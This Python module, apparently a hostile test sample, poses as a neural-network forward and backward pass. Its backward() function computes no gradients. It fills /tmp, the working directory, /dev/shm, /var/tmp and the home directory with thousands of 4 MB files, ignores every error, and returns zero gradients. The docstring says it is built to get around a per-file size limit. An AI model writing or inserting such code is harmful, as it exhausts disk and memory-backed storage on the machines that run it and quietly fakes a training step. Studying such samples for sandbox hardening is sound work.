"""Fills its writable space in backward(): /tmp, the working directory, /dev/shm, with many
files (RLIMIT_FSIZE caps one file, not how many), swallowing every error."""
import os

import numpy as np


def forward(params, X, activations):
    A = X
    for layer in range(1, len(activations) + 1):
        A = params[f"W{layer}"] @ A + params[f"b{layer}"]
    return A, X


def backward(params, cache, Y, activations, loss):
    block = b"\0" * (1 << 20)
    for folder in ("/tmp", ".", "/dev/shm", "/var/tmp", os.environ.get("HOME", ".")):
        for index in range(10_000):
            try:
                with open(os.path.join(folder, f"fill-{index}"), "wb") as handle:
                    for _ in range(4):
                        handle.write(block)
            except OSError:
                break
    return {f"d{name}": np.zeros_like(value) for name, value in params.items()}
